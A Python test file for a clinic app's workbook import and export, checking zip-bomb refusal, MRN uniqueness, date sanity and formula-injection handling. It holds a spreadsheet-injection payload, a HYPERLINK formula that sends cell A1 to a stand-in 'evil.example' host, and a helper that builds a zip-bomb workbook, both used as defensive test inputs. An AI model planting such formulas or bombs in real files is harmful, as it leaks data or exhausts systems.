"""Import guards (issue 17, item 7) and formula-looking text in every export (item 6): a
zip-bomb workbook is refused from its zip directory before anything is parsed; MRNs are unique
ignoring case and surrounding space, in the workbook and in the database; dates are sane; a
client named like a formula is a text cell in every export and survives export -> import ->
export unchanged."""

from __future__ import annotations

import tracemalloc
import zipfile
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import exc as sa_exc
from sqlalchemy import text

from iopdesk.db import Database
from iopdesk.errors import ValidationError
from iopdesk.services import clients
from iopdesk.services.workbook import ImportFailed, export_workbook, import_workbook
from tests.conftest import Env
from tests.test_workbook import cells, full_sheets, other_db, write_book  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"Click me")'


def _problems(exc: pytest.ExceptionInfo[ImportFailed]) -> list[str]:
    return [str(p) for p in exc.value.problems]


def _bomb(path: Path, megabytes: int = 300) -> Path:
    """A real workbook plus a worksheet part of `megabytes` MB of rows that compresses ~1000:1
    (a few hundred KB on disk)."""
    write_book(path, full_sheets())
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>' * 1000
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z,
        z.open("xl/worksheets/sheet99.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(megabytes * 1_000_000 // len(row)):
            part.write(row)
    return path


def test_a_zip_bomb_is_refused_before_parsing(env: Env, tmp_path: Path) -> None:
    path = _bomb(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 5_000_000
    tracemalloc.start()
    try:
        with pytest.raises(ImportFailed) as err:
            import_workbook(env.db, env.world.admin, path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    message = err.value.message
    assert "bomb.xlsx was not imported" in message
    assert "compressed" in message and "xl/worksheets/sheet99.xml" in message
    assert "Nothing was read" in message
    assert peak < 50_000_000  # nothing was decompressed
    with env.db.session() as s:
        assert s.execute(text("SELECT count(*) FROM client")).scalar_one() == 2  # unchanged


def test_an_absurd_total_size_is_refused(env: Env, tmp_path: Path) -> None:
    """Parts that each look ordinary but add up beyond any clinic's workbook."""
    path = write_book(tmp_path / "many.xlsx", full_sheets())
    from iopdesk.services.workbook import read  # where the limits are applied

    with zipfile.ZipFile(path) as z:
        total = sum(e.file_size for e in z.infolist())
    limit = read.MAX_UNCOMPRESSED
    try:
        read.MAX_UNCOMPRESSED = total - 1  # the rule, shown on a small file
        with pytest.raises(ImportFailed) as err:
            import_workbook(env.db, env.world.admin, path)
    finally:
        read.MAX_UNCOMPRESSED = limit
    assert "would expand to" in err.value.message
    import_workbook(env.db, env.world.admin, path, dry_run=True)  # fine under the real limit


def _client_row(mrn: str, dob: Any, admission: Any, discharge: Any = None) -> list[Any]:
    row = list(full_sheets()["Clients"][1])
    row[0], row[4], row[10], row[11] = mrn, dob, admission, discharge
    return row


def _clients_book(tmp_path: Path, *rows: list[Any]) -> Path:
    sheets = full_sheets()
    keep = {
        k: v for k, v in sheets.items() if k not in ("Authorizations", "Sessions", "Attendance")
    }
    keep["Clients"] = [sheets["Clients"][0], *rows]
    return write_book(tmp_path / "clients.xlsx", keep)


def test_mrns_differing_only_in_case_or_space_are_one_mrn(env: Env, tmp_path: Path) -> None:
    path = _clients_book(
        tmp_path,
        _client_row("M000001", date(1967, 3, 4), date(2026, 10, 1)),
        _client_row("m000001", date(1967, 3, 4), date(2026, 10, 1)),
        _client_row("  M000001  ", date(1967, 3, 4), date(2026, 10, 1)),
    )
    with pytest.raises(ImportFailed) as err:
        import_workbook(env.db, env.world.admin, path)
    found = _problems(err)
    assert (
        "Clients!3 mrn: 'm000001' (MRNs ignore case) appears more than once (first on row 2)"
        in found
    )
    assert any(p.startswith("Clients!4 mrn: 'M000001'") for p in found)


def test_a_lower_case_mrn_is_the_existing_client(env: Env, tmp_path: Path) -> None:
    db, admin = env.db, env.world.admin
    first = _clients_book(tmp_path, _client_row("M000001", date(1967, 3, 4), date(2026, 10, 1)))
    import_workbook(db, admin, first)
    again = _clients_book(tmp_path, _client_row("m000001 ", date(1967, 3, 4), date(2026, 10, 1)))
    result = import_workbook(db, admin, again)
    assert result.created.get("Clients", 0) == 0
    with db.session() as s:
        mrns = s.execute(text("SELECT mrn FROM client WHERE lower(mrn) = 'm000001'")).all()
    assert [m[0] for m in mrns] == ["M000001"]


def test_the_database_refuses_an_mrn_differing_only_in_case(env: Env) -> None:
    db, admin = env.db, env.world.admin
    clients.create_client(db, admin, clients.ClientInput("A", "B", date(1980, 1, 1), mrn="X0001"))
    with pytest.raises(ValidationError, match="MRN x0001 is already used"):
        clients.create_client(
            db, admin, clients.ClientInput("C", "D", date(1980, 1, 1), mrn="x0001")
        )
    with pytest.raises(sa_exc.IntegrityError), db.session() as s:  # below the services too
        s.execute(
            text("UPDATE client SET mrn = 'x0001' WHERE id = :id"),
            {"id": env.world.client_other},
        )


@pytest.mark.parametrize(
    ("dob", "admission", "discharge", "expected"),
    [
        (
            date(1967, 5, 1),
            date(1900, 1, 1),
            None,
            "Clients!2 admission_date: 1900-01-01 is before the date of birth (1967-05-01)",
        ),
        (
            date(1967, 5, 1),
            "1899-12-31",  # typed as text: Excel itself has no dates before 1900
            None,
            "Clients!2 admission_date: 1899-12-31 is before 1900; check the year",
        ),
        (
            date(1967, 5, 1),
            date.today() + timedelta(days=400),
            None,
            "more than a year ahead; check the year",
        ),
        (
            date(1967, 5, 1),
            date(2026, 10, 1),
            date(2026, 9, 30),
            "Clients!2 discharge_date: must be on or after admission_date",
        ),
    ],
)
def test_dates_must_be_sane(
    env: Env, tmp_path: Path, dob: date, admission: Any, discharge: date | None, expected: str
) -> None:
    path = _clients_book(tmp_path, _client_row("M000009", dob, admission, discharge))
    with pytest.raises(ImportFailed) as err:
        import_workbook(env.db, env.world.admin, path)
    assert any(expected in p for p in _problems(err)), _problems(err)


def test_admission_on_the_birth_day_is_accepted(env: Env, tmp_path: Path) -> None:
    path = _clients_book(tmp_path, _client_row("M000010", date(2008, 5, 1), date(2008, 5, 1)))
    import_workbook(env.db, env.world.admin, path, dry_run=True)


def test_formula_names_round_trip_as_text(env: Env, other_db: Database, tmp_path: Path) -> None:  # noqa: F811
    db, admin = env.db, env.world.admin
    import_workbook(db, admin, write_book(tmp_path / "in.xlsx", full_sheets()))
    with db.session() as s:  # names typed into the app (openpyxl would write them as formulas)
        for mrn, first_name, last_name in (
            ("C1001", EVIL, "@cmd"),
            ("C1002", "+1 555 0100", "Cole"),
            ("C1003", "-x", "Eng"),
        ):
            s.execute(
                text("UPDATE client SET first_name = :f, last_name = :l WHERE mrn = :m"),
                {"f": first_name, "l": last_name, "m": mrn},
            )
    first, second = tmp_path / "first.xlsx", tmp_path / "second.xlsx"
    export_workbook(db, admin, first)
    wb = load_workbook(first)
    ws = wb["Clients"]
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    names = [row[1:3] for row in cells(first)["Clients"][1:]]
    assert (EVIL, "@cmd") in names
    assert {n[0] for n in names} >= {"+1 555 0100", "-x"}
    import_workbook(other_db, admin, first)  # the export re-imports ...
    export_workbook(other_db, admin, second)
    assert cells(first) == cells(second)  # ... and exports identically


@pytest.mark.parametrize("backend", ["sqlite"])
def test_formula_text_is_a_text_cell_in_every_export(backend: str, tmp_path: Path) -> None:
    """Billing, attendance report, clinic workbook and audit report: a client (and a user)
    named like a formula is written as text; no cell of any export is a formula."""
    import os

    from iopdesk.db import DbTarget
    from iopdesk.demo import DEMO_PASSWORD, create_demo_clinic
    from iopdesk.services import audit_report, billing, hours
    from iopdesk.services.auth import login

    db = Database.open(DbTarget(path=tmp_path / "demo.db"), create=True, key=os.urandom(32))
    try:
        create_demo_clinic(db, today=date(2026, 11, 27))
        with db.session() as s:
            s.execute(text("UPDATE client SET last_name = :n"), {"n": EVIL})
            s.execute(
                text("UPDATE app_user SET display_name = :n WHERE username = 'admin'"),
                {"n": "@admin"},
            )
        admin = login(db, "admin", DEMO_PASSWORD)
        biller = login(db, "billing", DEMO_PASSWORD)
        out = {name: tmp_path / f"{name}.xlsx" for name in ("billing", "week", "book", "audit")}
        billing.export(db, biller, date(2026, 10, 1), date(2026, 10, 31), out["billing"])
        hours.export_attendance_report(db, admin, date(2026, 11, 16), out["week"])
        export_workbook(db, admin, out["book"])
        audit_report.export(db, admin, audit_report.AuditQuery(), out["audit"])
    finally:
        db.close()
    for name, path in out.items():
        wb = load_workbook(path)
        values = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{name} {ws.title}!{c.coordinate}"
                    values.append(c.value)
        with zipfile.ZipFile(path) as z:
            for part in z.namelist():
                assert b"<f>" not in z.read(part), f"{name} {part}"
        shown = " ".join(str(v) for v in values if v is not None)
        assert (EVIL in shown) or ("@admin" in shown), name  # the hostile text is there, as text
